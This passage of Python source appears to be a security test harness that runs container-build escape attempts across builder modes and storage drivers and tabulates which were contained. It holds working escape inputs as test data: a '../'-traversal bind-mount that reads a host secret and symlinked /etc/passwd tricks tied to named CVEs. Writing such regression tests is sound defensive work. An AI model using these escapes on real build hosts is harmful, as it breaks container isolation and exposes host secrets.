        f"from={BASE_TAG},source={'../' * 12}{str(canary).lstrip('/')}",
    ]
    before = snapshot(canary)
    results = []
    for v in variants:
        run = cell.build(
            f"FROM {BASE_TAG}\nRUN --mount=type=bind,{v},target=/m,rw "
            "cat /m/secret; touch /m/created; true\n",
            ctx=ctx,
        )
        if TOKEN in run.output:
            cell.escapes.append(f"{v}: read the host secret")
        results.append(judge(cell, run, before))
        if not results[-1].safe:
            return results[-1]
    refused = [o.detail for o in results if o.kind == "refused"]
    if len(refused) == len(results):
        return Outcome("refused", refused[0])
    return Outcome("contained", f"{len(refused)} of {len(results)} refused")


@attack("passwd-symlink")
def passwd_symlink(cell: Cell) -> Outcome:
    """CVE-2024-9676: the image's /etc/passwd and /etc/group are symlinks to host files
    naming user `evil` (uid 4242): USER evil must not resolve through the host file."""
    host = cell.work / "hostetc"
    host.mkdir(exist_ok=True)
    (host / "passwd").write_text("evil:x:4242:4242::/:/bin/sh\n")
    (host / "group").write_text("evil:x:4242:\n")
    run = cell.build(
        f"FROM {BASE_TAG}\nRUN ln -sf {host}/passwd /etc/passwd && ln -sf {host}/group /etc/group\n"
        "USER evil\nRUN id\n"
    )
    if lines_with(run, "uid=4242"):
        cell.escapes.append("USER evil resolved through the host's file (uid=4242)")
    return judge(cell, run, None)


@attack("supplementary-groups")
def supplementary_groups(cell: Cell) -> Outcome:
    """CVE-2023-25173: `USER 1000:1000`: the process's groups hold no gid but 1000 (no
    host or root group leaks in)."""
    run = cell.build(
        f"FROM {BASE_TAG}\nUSER 1000:1000\nRUN grep -E '^(Groups|Gid)' /proc/self/status\n"
    )
    groups = [
        ln.split(":", 1)[1].split() for ln in run.output.splitlines() if ln.startswith("Groups:")
    ]
    if groups:
        extra = [g for g in groups[0] if g != "1000"]
        if extra:
            cell.escapes.append(f"supplementary groups leak in: {' '.join(groups[0])}")
        elif "1000" not in groups[0]:
            outcome = judge(cell, run, None)
            if outcome.kind == "contained":
                return Outcome("contained", "no supplementary groups (primary gid not listed)")
    return judge(cell, run, None)


# -- running cells --------------------------------------------------------------------------


@dataclass
class Campaign:
    """Per-mode stores with the base image, under one world-readable work dir."""

    work: Path
    clis: dict[str, Cli | str] = field(default_factory=dict)
    counter: int = 0

    @classmethod
    def create(cls) -> Campaign:
        work = Path(tempfile.mkdtemp(prefix="ocb-escapes-", dir="/tmp"))
        work.chmod(0o755)
        base = work / "basectx"
        base.mkdir()
        shutil.copy(shutil.which("busybox") or "/bin/busybox", base / "busybox")
        subprocess.run(
            ["gcc", "-static", "-O2", "-o", str(base / "probe"), str(HERE / "probe.c")],
            check=True,
            capture_output=True,
        )
        (base / "passwd").write_text(
            "root:x:0:0:root:/root:/bin/sh\nu:x:1000:1000::/home/u:/bin/sh\n"
        )
        (base / "group").write_text("root:x:0:\nu:x:1000:\n")
        (base / "Dockerfile").write_text(BASE_DOCKERFILE)
        _share(work)
        return cls(work)

    def cli(self, m: Mode) -> Cli | str:
        """The mode's Cli with the base image built, or why it cannot run."""
        if m.name not in self.clis:
            try:
                cli = make_cli(m, self.work)
            except Unavailable as e:
                self.clis[m.name] = str(e)
                return str(e)
            run = cli.build(self.work / "basectx", "-q", "-t", BASE_TAG)
            if run.returncode != 0:
                self.clis[m.name] = f"cannot build the base image: {error_text(run.stderr)}"
            else:
                self.clis[m.name] = cli
        return self.clis[m.name]

    def run(self, a: Attack, m: Mode, driver: str) -> Outcome:
        cli = self.cli(m)
        if isinstance(cli, str):
            return Outcome("n/a", cli)
        if driver == "fuse-overlayfs" and shutil.which("fuse-overlayfs") is None:
            return Outcome("n/a", "fuse-overlayfs is not installed")
        self.counter += 1
        cell_dir = self.work / f"cell-{self.counter}-{a.name}-{m.name}-{driver}"
        cell_dir.mkdir()
        cell = Cell(m, driver, cli, cell_dir)
        found: list[str] = []
        with core_pattern_guard(found):
            outcome = a.fn(cell)
        if found:
            return Outcome("ESCAPED", "; ".join([*found, outcome.detail]).strip("; "))
        return outcome

    def close(self) -> None:
        for cli in self.clis.values():
            if isinstance(cli, Cli) and cli.user is not None:
                # the rootless store holds subordinate-id files: remove from its namespace
                cli("prune", "--all", timeout=120)
        shutil.rmtree(self.work, ignore_errors=True)
        restore_devices()


def cells(include_slow: bool = True) -> list[tuple[Attack, str, str]]:
    """(attack, mode name, driver) for every cell of the matrix."""
    out = []
    for a in ATTACKS:
        if a.slow and not include_slow:
            continue
        if a.independent:
            out.append((a, HOST_SIDE.name, "overlay"))
            continue
        for d in a.drivers:
            for m in MODES:
                out.append((a, m.name, d))
    return out


def row_name(a: Attack, driver: str) -> str:
    return a.name if len(a.drivers) == 1 else f"{a.name} ({driver})"


def table(results: dict[tuple[str, str], Outcome], modes: list[str], brief: bool = False) -> str:
    """Markdown, attack rows x mode columns; ``brief``: the outcome kind alone."""
    rows = list(dict.fromkeys(r for r, _ in results))
    lines = ["| attack | " + " | ".join(modes) + " |", "|---" * (len(modes) + 1) + "|"]
    for r in rows:
        cellv = [
            (results[(r, m)].kind if brief else results[(r, m)].cell()) if (r, m) in results else ""
            for m in modes
        ]
        lines.append(f"| {r} | " + " | ".join(cellv) + " |")
    return "\n".join(lines)


def main(argv: list[str] | None = None) -> int:
    p = argparse.ArgumentParser(prog="python -m hardening.escapes", description=__doc__)
    p.add_argument("--attack", action="append", help="only these attacks (repeatable)")
    p.add_argument("--mode", action="append", help="only these modes (repeatable)")
    p.add_argument("--driver", action="append", help="only these storage drivers")
    p.add_argument("--out", help="also write the table to this file")
    p.add_argument("--brief", help="also write the table without details to this file")
    args = p.parse_args(argv)
    if os.geteuid() != 0:
        print("run as root (the campaign creates a test user and host canaries)", file=sys.stderr)
        return 1
    modes = [m for m in COLUMNS if not args.mode or m in args.mode]
    campaign = Campaign.create()
    results: dict[tuple[str, str], Outcome] = {}
    started = time.monotonic()
    try:
        for a, mname, d in cells():
            if (args.attack and a.name not in args.attack) or mname not in modes:
                continue
            if args.driver and d not in args.driver:
                continue
            t0 = time.monotonic()
            outcome = campaign.run(a, mode(mname), d)
            results[(row_name(a, d), mname)] = outcome
            print(
                f"{row_name(a, d)} [{mname}] {time.monotonic() - t0:.1f}s: {outcome.cell()}",
                file=sys.stderr,
                flush=True,
            )
    finally:
        campaign.close()
    shown = [m for m in modes if any(k[1] == m for k in results)]
    text = table(results, shown)
    escaped = sum(1 for o in results.values() if o.kind == "ESCAPED")
    failed = sum(1 for o in results.values() if o.kind == "FAILED")
    summary = (
        f"\n{len(results)} cells in {time.monotonic() - started:.0f} s: {escaped} ESCAPED, "
        f"{failed} FAILED"
    )
    print(text + summary)
    if args.out:
        Path(args.out).write_text(text + "\n" + summary + "\n")
    if args.brief:
        Path(args.brief).write_text(table(results, shown, brief=True) + "\n" + summary + "\n")
    return 1 if escaped or failed else 0


import hardening.escape_registry  # noqa: E402,F401  (registers the registry attacks)

if __name__ == "__main__":
    # run the imported module's main: the attacks register there, not in __main__
    from hardening import escapes

    sys.exit(escapes.main())
